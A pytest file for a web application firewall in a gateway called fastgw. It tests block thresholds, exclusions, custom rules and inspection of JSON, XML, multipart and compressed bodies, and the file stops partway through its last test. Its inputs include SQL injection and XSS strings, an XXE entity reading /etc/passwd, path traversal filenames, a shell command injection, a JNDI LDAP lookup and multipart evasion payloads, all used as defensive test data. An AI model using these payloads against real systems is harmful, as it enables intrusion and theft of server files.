"""waf: what a refused client and the operator get, exclusions, own rules, bodies and hostile requests."""

from __future__ import annotations

import asyncio
import gzip
import json
import random
import zlib
from pathlib import Path
from typing import Any
from urllib.parse import quote

import brotli
import pytest

from fastgw.config import ConfigError
from fastgw.filters.policies.content_coding import Decompress
from fastgw.filters.policies.headers import Headers
from fastgw.filters.policies.request_id import RequestId
from fastgw.filters.policies.waf import Waf
from fastgw.filters.policies.waf import filter as waf_filter
from fastgw.filters.policies.waf.body_values import values_of
from fastgw.filters.policies.waf.normalization import normalized
from fastgw.filters.policies.waf.rule_sets import rule_sets
from fastgw.filters.policies.waf.rules.rule import RequestPart, Rule, Severity
from fastgw.filters.policies.waf.search_texts import decoded
from fastgw.http.content_coding.compressors import zstd
from fastgw.testing import configured, run
from tests.support.memory import Plane
from tests.support.on_loop import on_loop, until
from tests.support.table import for_each
from tests.support.waf import form, get, in_json

ATTACK = "1%27%20or%20%271%27=%271"
WAF = configured(Waf)


def post(kind: str, body: bytes, *headers: str) -> bytes:
    lines = ["POST /api HTTP/1.1", "Host: a", f"Content-Type: {kind}", f"Content-Length: {len(body)}", *headers]
    return "\r\n".join([*lines, "", ""]).encode() + body


@pytest.mark.parametrize(("threshold", "passes"), [(16, True), (15, False)])
@pytest.mark.parametrize("where", ["head", "body"])
def test_a_request_on_an_open_connection_is_refused_from_the_threshold_on(
    where: str, threshold: int, passes: bool
) -> None:
    waf = {"waf": {"threshold": threshold}}
    plane = Plane({"routes": [{"name": "r", "upstream": "u", "filters": waf}]})
    client = plane.client()
    client.sends(get("/"))  # opens the connection
    upstream = plane.connects()
    upstream.sends(b"HTTP/1.1 204 No Content\r\n\r\n")
    body = f"id={ATTACK}".encode()
    client.sends(get(f"/?id={ATTACK}") if where == "head" else post("application/x-www-form-urlencoded", body))
    assert upstream.received.count(ATTACK.encode()) == passes
    assert client.received.count(b"HTTP/1.1 403 ") == (not passes)


def test_the_client_gets_the_id_of_its_request_and_nothing_of_the_rules() -> None:
    ran = run((configured(RequestId), WAF), get(f"/?id={ATTACK}", "X-Request-Id: from-client-1"))
    head, _, body = ran.received.partition(b"\r\n\r\n")
    problem = json.loads(body)
    assert head.startswith(b"HTTP/1.1 403 ")
    assert problem["type"] == "urn:fastgw:fault:waf_blocked"
    assert problem["request_id"] == "from-client-1"
    assert b"42" not in body
    assert b"sqli" not in ran.received


def test_the_log_has_score_rules_tags_and_location() -> None:
    ran = run(WAF, get(f"/?id={ATTACK}"))
    assert ran.record.fault_detail.startswith("score 15: 4201 (attack-sqli) in arguments 'id'; 4202 (attack-sqli)")
    assert not ran.passed


def test_a_request_is_refused_from_the_threshold_on() -> None:
    assert run(configured(Waf, threshold=16), get(f"/?id={ATTACK}")).passed
    assert not run(configured(Waf, threshold=15), get(f"/?id={ATTACK}")).passed


@pytest.mark.parametrize(
    ("exclude", "passes"),
    [
        ({"tags": ["attack-sqli"]}, True),
        ({"rules": [4201, 4202, 4203]}, True),
        ({"rules": [4201]}, False),
        ({"tags": ["attack-sqli"], "paths": ["/reports/*"]}, True),
        ({"tags": ["attack-sqli"], "paths": ["/other/*"]}, False),
        ({"tags": ["attack-sqli"], "arguments": ["id"]}, True),
        ({"tags": ["attack-sqli"], "arguments": ["other"]}, False),
        ({"tags": ["attack-sqli"], "arguments": ["ID"]}, False),
        ({"tags": ["attack-sqli"], "paths": ["/reports/*"], "arguments": ["id"]}, True),
    ],
)
def test_exclusions_by_rule_tag_path_and_argument(exclude: dict[str, object], passes: bool) -> None:
    assert run(configured(Waf, exclude=[exclude]), get(f"/reports/1?id={ATTACK}")).passed is passes


@pytest.mark.parametrize("sent", ["X-Text", "x-text"])
def test_headers_are_excluded_by_their_name_in_any_case(sent: str) -> None:
    """HTTP/2 has them in lower case (RFC 9113 section 8.2.1)."""
    attack = get("/", f"{sent}: <script>alert(1)</script>")
    for names, passes in ((["X-Text"], True), (["x-TEXT"], True), (["X-Other"], False)):
        excluding = configured(Waf, exclude=[{"tags": ["attack-xss"], "arguments": names}])
        assert run(excluding, attack).passed is passes


def test_an_excluded_argument_does_not_hide_another_one() -> None:
    excluding = configured(Waf, exclude=[{"tags": ["attack-sqli"], "arguments": ["id"]}])
    assert not run(excluding, get(f"/?id={ATTACK}&name={ATTACK}")).passed


@pytest.mark.parametrize(
    ("body", "passes"),
    [
        ({"html": "' or 1=1-- -"}, True),
        ({"html": ["x", {"a": "y"}, "' or 1=1-- -"]}, True),
        ({"ids": [{"html": "x"}, "' or 1=1-- -"]}, False),
        ({"ids": [{"html": ["x"]}, {}, [], "' or 1=1-- -"]}, False),
        ({"html": {"a": "' or 1=1-- -"}}, False),
        ({"a": {"html": "x", "b": ["' or 1=1-- -"]}}, False),
        ([{"html": "x"}, "' or 1=1-- -"], False),
    ],
)
def test_an_exclusion_is_for_the_member_of_json_that_a_string_is_in(body: object, passes: bool) -> None:
    excluding = configured(Waf, exclude=[{"tags": ["attack-sqli"], "arguments": ["html"]}])
    assert run(excluding, in_json(body)).passed is passes


@pytest.mark.parametrize(
    "body",
    [
        '{"html":"x", user:"%s"}',
        """{"html":"x", 'user' : "%s"}""",
        '{"html":"x"; user="%s"}',
        '{"html":"x", "user"=>"%s"}',
        '{"html":1, user:["x", "%s"]}',
        '{"html":{user:[["x"], "%s"]}}',
    ],
)
def test_an_excluded_argument_does_not_hide_a_member_whose_name_has_no_double_quotes(body: str) -> None:
    """Gson and others read such names, and `=` for the colon."""
    excluding = configured(Waf, exclude=[{"tags": ["attack-sqli"], "arguments": ["html"]}])
    assert run(excluding, post("application/json", (body % "' or 1=1-- -").encode())).status == 403
    assert run(excluding, post("application/json", (body % "x").encode())).passed


def test_brackets_of_json_that_close_nothing_have_no_name() -> None:
    excluding = configured(Waf, exclude=[{"tags": ["attack-sqli"], "arguments": ["html"]}])
    assert run(excluding, post("application/json", b'{"html": "x"}]}\x1e"\' or 1=1-- -"')).status == 403


@pytest.mark.parametrize("text", ["%00", "%c0%af", "%252541"])
@pytest.mark.parametrize("body", ["a={0}&html={0}", "html={0}&a={0}", "{0}=html&html={0}"])
def test_an_excluded_argument_does_not_hide_one_with_the_same_text(text: str, body: str) -> None:
    excluding = configured(
        Waf, rules="default", paranoia=2, threshold=3,
        exclude=[{"rules": [2003, 2006, 2008], "arguments": ["html"]}, {"tags": ["attack-sqli"]}],
    )  # fmt: skip
    assert not run(excluding, form(body.format(text))).passed
    assert run(excluding, form(f"html={text}")).passed


def test_own_rules_of_the_configuration_and_of_a_file(tmp_path: Path) -> None:
    file = tmp_path / "rules.yaml"
    file.write_text("- {id: 10002, pattern: legacy-client, targets: [headers], severity: notice, tags: [old]}\n")
    own = configured(
        Waf, rules="none", threshold=2, custom=[{"id": 10001, "pattern": "^/Old-Admin", "targets": ["path"]}],
        rules_file=str(file),
    )  # fmt: skip
    assert run(own, get(f"/?id={ATTACK}")).passed
    assert "10001 (attack-custom) in path" in run(own, get("/old-admin/x")).record.fault_detail
    ran = run(own, get("/", "User-Agent: Legacy-Client/1"))
    assert ran.record.fault_detail == "score 2: 10002 (attack-custom, old) in headers 'User-Agent'"


def test_own_rules_may_match_empty_text() -> None:
    """A request without arguments, or with empty ones, has no value in which such a rule matches."""
    own = configured(Waf, custom=[{"id": 10001, "pattern": "^[0-9]*$", "targets": ["arguments"]}])
    for target in ("/", "/?", "/?=", "/?&"):
        assert run(own, get(target)).passed
    assert run(own, post("application/json", b"{}")).passed
    assert "10001 (attack-custom) in arguments 'a'" in run(own, get("/?a=7")).record.fault_detail


@pytest.mark.parametrize("pattern", [r"\Abar\z", r"\Abar", r"bar\z", "^bar$"])
def test_anchors_of_own_rules_match_at_each_value(pattern: str) -> None:
    own = configured(
        Waf, rules="none", threshold=10, custom=[{"id": 10001, "pattern": pattern}, {"id": 10002, "pattern": "foo"}]
    )
    for target in ("/?a=foo&b=bar", "/?b=bar&a=foo", f"/?a=foo&b=bar&c={'x' * 600}"):
        detail = run(own, get(target)).record.fault_detail
        assert "10001 (attack-custom) in arguments 'b'" in detail
        assert "10002 (attack-custom) in arguments 'a'" in detail


@for_each(
    ("pattern", "text", "matches"),
    [
        ("a b", "a\nb", True),
        ("a\\ b", "a\nb", True),
        (r"a\x20b", "a b", True),
        (r"a\x20b", "a\nb", False),
        ("a[ x]b", "a\nb", True),
        ("a[^ x]b", "a\nb", False),
        ("a[]x ]b", "a\nb", True),
        ("a[ -/]b", "a\nb", True),
        ("a[ -/]b", "a*b", True),
        ("a[ -/]b", "a0b", False),
        ("a[[:digit:] ]b c", "a\nb\nc", True),
        ("a[[:digit:] ]b c", "a7b c", True),
        (r"\Qa. ^b\E c", "a. ^b\nc", True),
        ("(?:x|^)b$ ", "a\n\n b\n", True),
    ],
)
def test_a_space_in_own_rules_is_any_white_space(pattern: str, text: str, matches: bool) -> None:
    own = configured(Waf, rules="none", custom=[{"id": 10001, "pattern": pattern}])
    assert run(own, get(f"/?a={quote(text)}")).passed is not matches


def test_mistakes_in_own_rules_are_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="RE2 syntax"):
        configured(Waf, custom=[{"id": 10001, "pattern": "(unclosed"}])
    with pytest.raises(ConfigError, match="no rules"):
        configured(Waf, rules="none")
    file = tmp_path / "rules.yaml"
    file.write_text("- {id: 10001, pattern: fine}\n\n- id: 10002\n  pattern: '(?=look)'\n")
    with pytest.raises(Exception, match=r"rules\.yaml:3:3: .*RE2 syntax"):
        run(configured(Waf, rules_file=str(file)), get("/"))


# bodies


XML = '<?xml version="1.0"?><a><script>alert(1)</script></a>'
TEXT_CONTROLS = (b"\x7f", b"\x0c", b"\x1b", b"\t")
"""Control characters that are found in text."""


@for_each(
    "request_bytes",
    [
        form(f"name=x&id={ATTACK}"),
        in_json({"a": {"b": ["x", "<script>alert(1)</script>"]}}),
        in_json({"<script>alert(1)</script>": 1}),
        post("application/json", b'{"a": "\\u003cscript\\u003ealert(1)</script>"}'),
        post("application/json", b"a=<script>alert(1)</script>"),  # the type does not decide alone
        post("application/json", b"{'a': '<script>alert(1)</script>'}"),  # JSON to Gson
        post("application/json", b'{"b": 1, a: <script>alert(1)</script>}'),
        post("application/xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        *(
            post("application/xml", body)
            for body in (
                b"<a><![CDATA[<script>alert(1)</script>]]></a>",
                b"<a><![CDATA[]] <img src=x onerror=alert(1)>]]></a>",
                b"<a><![CDATA[<img src=x onerror=alert(1)>",
                b"<a>' union <!-- one text -->select password from users</a>",
                b"<a>' union <?and ?>sel<![CDATA[ect password from users]]></a>",
                b"<a b=\"1' union select password from users where 1>0--\"/>",
                b"<a b='x\" onerror=alert(1)>'/>",
                b"<a x='=\"'/><b c=\"<script>alert(1)</script>\"/>",
                b"<a b = '<script>alert(1)</script>",
                b"<a><?php echo system($_GET['x']); ?></a>",
                b'<?xml-stylesheet href="javascript:alert(1)"?><a/>',
                b'<!DOCTYPE a [<!ENTITY x "> <script>alert(1)</script>">]><a>&x;</a>',
            )
        ),
        *(
            post(kind, document)
            for kind in ("text/xml", "application/soap+xml; charset=utf-8")
            for document in (
                b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-alert(1)</a>',
                b"\xef\xbb\xbf<?xml version = '1.0'\n encoding = 'utf-7' ?><a>+ADw-script+AD4-alert(1)</a>",
                b'<?xml version="1.0" encoding="ibm037"?><a/>',
                b'<?xml encoding="utf-8" version="1.0" encoding="utf-7"?><a/>',
                *(XML.encode(encoding) for encoding in ("cp037", "utf-16", "utf-16-le", "utf-16-be")),
                *(XML.encode(encoding) for encoding in ("utf-32", "utf-32-le", "utf-32-be")),
                "<a/>".encode("utf-16-le"),
            )
        ),
        *(post("application/x-any", b'{"x": "%b", "a": "<script>alert(1)</script>"}' % each) for each in TEXT_CONTROLS),
        post("multipart/form-data; boundary=b", b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
             b"<script>alert(1)</script>\r\n--b--\r\n"),
        post("multipart/form-data; boundary=b", b'--b\r\nContent-Disposition: form-data; name="a"; '
             b'filename="../../etc/passwd"\r\n\r\nx\r\n--b--\r\n'),
        post("multipart/form-data", b"--b\r\n\r\nx\r\n--b--"),  # no boundary
        post("text/plain", b"x; cat /etc/passwd"),
        post("image/png", b"id=1' or '1'='1"),  # text, whatever it is called
        post("application/x-www-form-urlencoded; charset=utf-7", b"a=b"),
        post("application/x-www-form-urlencoded; charset=ibm037", b"a=b"),
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 26\r\n\r\na=<script>alert(1)</script",  # no type
        b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n"
        b"9\r\n<script>a\r\n7\r\nlert(1)\r\n0\r\n\r\n",
    ],
)  # fmt: skip
def test_attacks_in_bodies_reach_no_upstream(request_bytes: bytes) -> None:
    ran = run(WAF, request_bytes)
    assert ran.status == 403
    assert ran.requests == ()


SCRIPT = b"<script>alert(1)</script>"
FIELD = b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + SCRIPT + b"\r\n--b--\r\n"


@for_each(
    "body",
    [
        *(
            b"--b\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\n" + SCRIPT + b"\r\n--b--\r\n"
            for disposition in (
                b'name="a"; x=" filename=y"',
                b'name="a; filename=y"',
                b"name='a; filename=y'",
                b'name="a\\"; filename=\\"y"',
                b'name="a"\r\nX-Y: ; filename=y',
                b'name="a"; filename=""',  # a field to Go
                b"name=\"a\"; filename*=utf-8''y",  # a field to PHP
                b'name="a"; filename=""; filename="y"',
            )
        ),
        b"--b--\r\n" + FIELD,  # PHP reads on
        FIELD.replace(SCRIPT, b"x") + FIELD,
        FIELD.replace(b"--b\r\n", b"--b or not\r\n"),
        FIELD.replace(b'"a"', b'"a"; filename="f"').replace(
            SCRIPT, b"x\r--b\r\nContent-Disposition: form-data; name=f\r\n\r\n" + SCRIPT
        ),
        FIELD.replace(SCRIPT, b"x\n--b\r\nContent-Disposition: form-data; name=f; filename=g\r\n\r\n" + SCRIPT),
        FIELD.replace(b"\r\n\r\n" + SCRIPT, b"\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4="),
        FIELD.replace(b"\r\n\r\n" + SCRIPT, b"\r\nContent-Type: text/plain;\r\n charset=ibm037\r\n\r\nx"),
    ],
)
def test_no_reader_of_multipart_bodies_gets_an_attack(body: bytes) -> None:
    """What some server takes for a field is inspected, or the body is refused as malformed."""
    assert run(WAF, post("multipart/form-data; boundary=b", body)).status == 403


PASSWD = b"../../../../etc/passwd"
ENCODED_PASSWD = b"..%2f..%2f..%2f..%2fetc%2fpasswd"


@for_each(
    "disposition",
    [
        b'name="a"; filename="ok.txt"; filename*=UTF-8\'\'' + ENCODED_PASSWD,
        b'name="a"; filename="ok.txt"; FileName*=UTF-8\'en\'' + ENCODED_PASSWD,
        b'name="a"; filename*="utf-8\'\'' + ENCODED_PASSWD + b'"; filename="ok.txt"',
        b"name=\"a\"; filename*=''" + ENCODED_PASSWD,
        b"name=\"a\"; filename*=UTF-8''%3Cscript%3Ealert(1)%3C/script%3E",
        b"name=\"a\"; filename=ok.txt; filename*=utf-16''%00%2e",  # Python decodes it
        b"name=\"a\"; filename=ok.txt; filename*=utf-7''+ADw-",
        b'name="a"; filename="ok.txt"; filename="' + PASSWD + b'"',
        b'name="a"; filename="ok.txt"; filename="ok2.txt"',
        b'name="a"; filename*0="../../../../"; filename*1="etc/passwd"',
        b"name=\"a\"; filename*0*=utf-8''..%2f..%2f; filename*1=..%2fetc%2fpasswd",
        b'name="a"; filename="x\\"' + PASSWD + b'"',
        b'name="a"; filename="x\\"; filename="' + PASSWD + b'"',
        b'name="a"; filename=x ' + PASSWD,
        b'name="a"; filename=\'' + PASSWD + b"'",
        b'name="a"; filename="' + ENCODED_PASSWD + b'"',
        b'name="a"; filename="=?utf-8?B?Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==?="',
        b'name="a"; filename="=?UTF-8*en?q?..=2F..=2F?= =?utf-8?Q?..=2F..=2Fetc=2Fpasswd?="',
        b'name="a"; filename="=?utf-7?Q?+ADw-?="',
        b'name="a"; filename="=?iso-2022-jp?Q?..=1B(B/..=1B(B/..=1B(B/e=1B(Btc/pass=1B(Bwd?="',
        b'name="a"; filename="=?iso-2022-jp?Q?=1B$B?="',  # the next word is read in another set by some
        b'name="a"; filename="=?iso-2022-jp?Q?a=1B(Ib?="',
        b'name="a"; filename="=?gbk?Q?../../../../etc/passwd?="',
        b"name=\"a\"; filename=ok.txt; filename*=gbk''" + ENCODED_PASSWD,
        b"name=\"a\"; filename=ok.txt; filename*=gb2312''%81s",  # bytes of none of its characters
        b'name="a"; filename="=?iso-2022-kr?Q?a?="',
        b"name=\"a\"; filename=ok.txt; filename*=iso-2022-jp''%1B$Babcd%1B(B",
        b'name="ok"; name="' + SCRIPT + b'"',
        b'name="x\\"' + SCRIPT + b'"',
        b"name=\"ok\"; name*=utf-8''%3Cscript%3Ealert(1)%3C/script%3E",
        b'name="a";\r\n filename="' + PASSWD + b'"',
        b'name="a"; filename="ok.txt"\r\nX-Any: ' + SCRIPT,
        b'name="a"; filename="ok.txt"\r\nContent-Type: text/plain; name="' + PASSWD + b'"',
        b'name="a"; filename="ok.txt"\r\nContent-Type: text/plain; name*=utf-8\'\'' + ENCODED_PASSWD,
        b'name="a"; filename="ok.txt"\r\nContent-Disposition : form-data; name="a"; filename="y"',
        b'name="a; filename=x.php"',
        b"name=\"a\"; filename='..\\..\\..\\windows\\win.ini'",
    ],
)
def test_names_that_some_server_takes_are_searched(disposition: bytes) -> None:
    body = b"--b\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\nx\r\n--b--\r\n"
    assert run(WAF, post("multipart/form-data; boundary=b", body)).status == 403


@pytest.mark.parametrize(
    "disposition",
    [
        b'name="files[]"; filename="O\'Brien; a photo, 100% of it.jpeg"',
        b"name=file; filename=\"b\xc3\xbccher.txt\"; filename*=utf-8''b%C3%BCcher.txt",  # .NET
        b'name="f"; filename="=?UTF-8?Q?b=C3=BCcher.txt?="; filename*=UTF-8\'\'b%C3%BCcher.txt',  # Spring
        b'name="my \\"name\\""; filename="the \\"best\\" name.txt"',  # curl
        b'name="f"; filename="the %22best%22 name.txt"',
        b'name="f"; filename="C:\\Documents\\x.txt"',
        b"name=f; filename=b\xc3\xbccher.txt; size=17",
        b"name='f'; filename='my file.txt';",
        b'name="f"; filename="x.xml"\r\nContent-Type: application/xop+xml; charset=UTF-8;\r\n type="text/xml"\r\n'
        b"Content-Transfer-Encoding: binary\r\nContent-ID: <root.message@cxf.apache.org>\r\nContent-Length: 1",
    ],
)
def test_ordinary_names_of_fields_and_files_pass(disposition: bytes) -> None:
    body = b"--b\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\nx\r\n--b--\r\n"
    assert run(WAF, post("multipart/form-data; boundary=b", body)).passed
    for size in range(3, len(body)):  # the inspected beginning may end anywhere
        values = values_of(b"multipart/form-data; boundary=b", body[:size])
        assert not values.is_malformed, size


@for_each(
    "disposition",
    [
        *(b'filename="b\xc3\xbccher und \xe6\x97\xa5\xe6\x9c\xac.png"', b'filename="b\xfccher.png"'),
        *(b'filename="a %22b%22 (1).png"', b'filename="a; b=c & d.png"', b"filename=\"O'Brien's.png\""),
        b"filename=\"na_ve.png\"; filename*=UTF-8''na%C3%AFve.png",
        b"filename=na_ve.png; filename*=utf-8''na%C3%AFve.png",  # .NET
        b"filename*=UTF-8''na%C3%AFve.png; filename=\"na_ve.png\"",
        b"filename=\"na?ve.png\"; filename*=iso-8859-1'en'na%EFve.png",
        b'filename="=?ISO-2022-JP?B?GyRCRnxLXBsoQi5wbmc=?="',
        b"filename=\"a.png\"; filename*=GBK''%D6%D0%B9%FA.png",
        b'filename="=?gb2312?B?1tC5+i5wbmc=?="',
        b'filename="=?koi8-r?Q?=C6=C1=CA=CC?= =?koi8-r?Q?.png?="',
        b"filename=\"a.png\"; filename*=Shift_JIS''%95%5C.png",  # the second byte is a backslash in ASCII
    ],
)
def test_files_with_ordinary_names_are_files(disposition: bytes) -> None:
    """Their content is not inspected, as that of every file."""
    content = b"\x89PNG\r\n\x1a\n\0\0" + SCRIPT + b"\xc0\x80"
    head = b'--b\r\nContent-Disposition: form-data; name="f"; ' + disposition + b"\r\nContent-Type: image/png\r\n\r\n"
    assert run(WAF, post("multipart/form-data; boundary=b", head + content + b"\r\n--b--\r\n")).passed


@pytest.mark.parametrize(
    "field",
    [
        *(b'name="_charset_"\r\n\r\n' + each for each in (b"UTF-8", b"utf-8", b"windows-1252", b"")),
        b'name="f"; filename=""\r\nContent-Type: application/octet-stream\r\n\r\n',
    ],
)
def test_hidden_charsets_and_empty_file_inputs_of_browsers_pass(field: bytes) -> None:
    other = b'\r\n--b\r\nContent-Disposition: form-data; name="a"\r\n\r\nna\xc3\xafve'
    body = b"--b\r\nContent-Disposition: form-data; " + field + other + b"\r\n--b--\r\n"
    assert run(WAF, post("multipart/form-data; boundary=b", body)).passed


@pytest.mark.parametrize(
    "disposition",
    [
        b"filename*=UTF-8''a.png",  # a field to PHP
        b'filename="a.png"; filename*=UTF-8\'a"b\'c',
        b"filename=a.png; x='; filename*=utf-8''b",
    ],
)
def test_what_is_a_field_to_a_server_is_searched(disposition: bytes) -> None:
    body = b'--b\r\nContent-Disposition: form-data; name="f"; ' + disposition + b"\r\n\r\n" + SCRIPT + b"\r\n--b--\r\n"
    assert run(WAF, post("multipart/form-data; boundary=b", body)).status == 403


def test_an_exclusion_is_for_a_field_that_has_one_name() -> None:
    excluding = configured(Waf, exclude=[{"rules": [2004], "tags": ["attack-xss"], "arguments": ["html"]}])
    for disposition, passes in (
        (b'name="html"', True),
        (b'name="other"', False),
        (b'name="html"; name="other"', False),
        (b"name=\"html\"; name*=utf-8''other", False),
        (b'name="html\\"; name=\\"other"', False),
    ):
        body = b"--b\r\nContent-Disposition: form-data; " + disposition + b"\r\n\r\n" + SCRIPT + b"\r\n--b--\r\n"
        assert run(excluding, post("multipart/form-data; boundary=b", body)).passed is passes


@pytest.mark.parametrize(
    "boundary",
    [
        *("c; boundary=b", "b; boundary=c", "b; boundary*=utf-8''c", "b; boundary*0=c"),
        *("b,c", 'b; x="; boundary=c"', " b"),
    ],
)
def test_a_boundary_that_two_servers_read_differently_is_refused(boundary: str) -> None:
    body = FIELD.replace(SCRIPT, b"x")
    assert run(WAF, post("multipart/form-data; boundary=b; charset=utf-8", body)).passed
    assert run(WAF, post(f"multipart/form-data; boundary={boundary}", body)).status == 403
    assert run(WAF, post('multipart/form-data; x="; boundary=c"; boundary=b', body)).status == 403  # `c` to PHP


def test_a_part_in_parts_and_a_field_with_the_charset_of_all_are_no_way_around() -> None:
    inner = b"--n\r\nContent-Disposition: attachment; filename=" + PASSWD + b"\r\n\r\nx\r\n--n--"
    outer = b'name="a"; filename="f"\r\nContent-Type: multipart/mixed; boundary=n\r\n\r\n' + inner
    charset = b'name="_charset_"\r\n\r\n%b'
    for part, passes in ((outer, False), (charset % b"ibm037", False), (charset % b"UTF-8", True)):
        body = b"--b\r\nContent-Disposition: form-data; " + part + b"\r\n--b--\r\n"
        assert run(WAF, post("multipart/form-data; boundary=b", body)).passed is passes


def test_a_charset_that_the_inspected_bytes_cut_off_is_judged_by_its_beginning() -> None:
    head = b'--b\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\n'
    whole = head + b"windows-1252\r\n--b\r\n"
    for size in range(len(head), len(whole)):
        assert not values_of(b"multipart/form-data; boundary=b", whole[:size]).is_malformed, size
    for body in (head + b"ibm037", head + b"windows\r\n--b--\r\n"):
        assert values_of(b"multipart/form-data; boundary=b", body).is_malformed


def test_ordinary_uploads_pass() -> None:
    """As browsers and curl send them: the content of a file is not inspected."""
    upload = (
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="x.js"\r\nContent-Type: text/javascript\r\n\r\n'
    )
    field = b"--b\r\ncontent-disposition: form-data; name=a\r\n\r\nx\r\n"
    body = field + upload + SCRIPT + b"\n\r\n--b--"
    for ending in (b"", b"\r\n", b"  \r\n"):
        assert run(WAF, post("multipart/form-data; boundary=b", body + ending)).passed
    cut = body + b"x" * 20_000 + b"\r\n--b--\r\n"
    for size in range(100, len(body)):  # the inspected beginning may end anywhere
        assert run(configured(Waf, body_bytes=size), post("multipart/form-data; boundary=b", cut)).passed


@pytest.mark.parametrize(
    "headers",
    [
        ("Content-Type: application/json", "Content-Encoding: gzip"),  # most services ignore it
        ("Content-Type: application/grpc", "Content-Type: application/json"),
        ("Content-Type: application/grpc",),  # gRPC needs HTTP/2
        ("Content-Type: application/json; charset=utf-8; charset=ibm037",),
    ],
)
def test_no_header_switches_the_inspection_of_a_body_off(headers: tuple[str, ...]) -> None:
    body = b'{"a": "<script>alert(1)</script>"}'
    head = "\r\n".join(["POST / HTTP/1.1", "Host: a", *headers, f"Content-Length: {len(body)}", "", ""])
    assert run(WAF, head.encode() + body).status == 403


@pytest.mark.parametrize("name", ["Authorization", "Accept", "Accept-Language", "If-None-Match", "X-Any", "Cookie"])
def test_no_header_takes_expressions_for_a_log(name: str) -> None:
    assert run(WAF, get("/", f"{name}: ${{jndi:ldap://x/a}}")).status == 403


def test_a_cookie_is_inspected_although_a_header_had_its_text() -> None:
    text = "a=%3Cscript%3Ealert(1)%3C/script%3E"
    plane = Plane({"routes": [{"name": "r", "upstream": "u", "filters": {"waf": {}}}]})
    client = plane.client()
    client.sends(get("/", f"X-Text: {text}"))
    assert not client.received  # forwarded: headers are not decoded
    client = plane.client()
    client.sends(get("/", f"Cookie: {text}"))
    assert bytes(client.received).startswith(b"HTTP/1.1 403 ")


def test_the_rest_of_a_long_body_passes_or_the_request_is_refused() -> None:
    body = b"x" * 5000 + b"<script>alert(1)</script>" + b"y" * 50000
    ran = run(configured(Waf, body_bytes="4KiB"), post("text/plain", body))
    assert b"".join(ran.pieces) == body
    assert run(configured(Waf, body_bytes="4KiB", long_body="refuse"), post("text/plain", body)).status == 413
    assert run(configured(Waf, body_bytes="16KiB"), post("text/plain", body)).status == 403
    assert run(configured(Waf, body_bytes=0), post("text/plain", b"<script>alert(1)</script>")).passed


def test_a_body_that_is_declared_too_long_is_not_asked_for() -> None:
    waf = {"waf": {"body_bytes": "4KiB", "long_body": "refuse"}}
    plane = Plane({"routes": [{"name": "r", "upstream": "u", "filters": waf}]})
    head = "POST / HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n"
    for length, start in ((4097, b"HTTP/1.1 413 "), (4096, b"HTTP/1.1 100 ")):
        client = plane.client()
        client.sends((head % length).encode())
        assert bytes(client.received).startswith(start)


@pytest.mark.parametrize(
    ("body", "status"),
    [
        (b"Content-Length: 1\r\n\r\nx", b"413"),
        (b"Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n", b"413"),
        (b"Content-Length: 1\r\nContent-Encoding: gzip\r\n\r\nx", b"413"),
        (b"Content-Length: 0\r\n\r\n", None),
        (b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", None),
        (b"\r\n", None),
    ],
)
def test_with_no_bytes_to_inspect_every_body_is_too_long(body: bytes, status: bytes | None) -> None:
    waf = {"waf": {"body_bytes": 0, "long_body": "refuse"}}
    plane = Plane({"routes": [{"name": "r", "upstream": "u", "filters": waf}]})
    client = plane.client()
    client.sends(b"POST / HTTP/1.1\r\nHost: a\r\n" + body)
    if status is None:
        assert plane.connects().received.startswith(b"POST / HTTP/1.1\r\n")
    else:
        assert bytes(client.received).startswith(b"HTTP/1.1 " + status)


@pytest.mark.parametrize("first", [4095, 4096, 4097])
def test_a_body_without_a_length_is_refused_where_its_first_part_ends_at_the_limit(first: int) -> None:
    waf = {"waf": {"body_bytes": "4KiB", "long_body": "refuse"}}
    plane = Plane({"routes": [{"name": "r", "upstream": "u", "filters": waf}]})
    client = plane.client()
    client.sends(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
    client.sends(b"%x\r\n%b\r\n" % (first, b"x" * first))
    client.sends(b"19\r\n<script>alert(1)</script>\r\n0\r\n\r\n")
    assert bytes(client.received).startswith(b"HTTP/1.1 413 ")
    client = plane.client()
    client.sends(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n1000\r\n%b\r\n" % (b"x" * 4096))
    client.sends(b"0\r\n\r\n")
    assert plane.connects().received.endswith(b"x\r\n0\r\n\r\n")


ENCODERS: dict[str, Any] = {"gzip": gzip.compress, "br": brotli.compress, "zstd": zstd.compress}


@pytest.mark.parametrize("coding", [*ENCODERS, "x-gzip"])
def test_a_body_that_decompress_decompresses_is_inspected_as_the_service_gets_it(coding: str) -> None:
    both = WAF, configured(Decompress)
    encode = ENCODERS[coding.removeprefix("x-")]
    for text, status in ((b"a=1&b=plain", 200), (b"a=1&b=<script>alert(1)</script>", 403)):
        body = encode(text)
        ran = run(both, post("application/x-www-form-urlencoded", body, f"Content-Encoding: {coding}"))
        assert (ran.status, b"".join(ran.pieces)) == (status, text if status == 200 else b"")
        assert run(WAF, post("application/x-www-form-urlencoded", body, f"Content-Encoding: {coding}")).status == 403


@pytest.mark.parametrize(("settings", "status"), [({}, 200), ({"long_body": "refuse"}, 413)])
def test_the_limits_of_a_compressed_body_are_those_of_the_decompressed_one(
    settings: dict[str, Any], status: int
) -> None:
    text = b"x" * 5000 + b"<script>alert(1)</script>"
    both = configured(Waf, body_bytes="4KiB", **settings), configured(Decompress)
    ran = run(both, post("text/plain", gzip.compress(text), "Content-Encoding: gzip"))
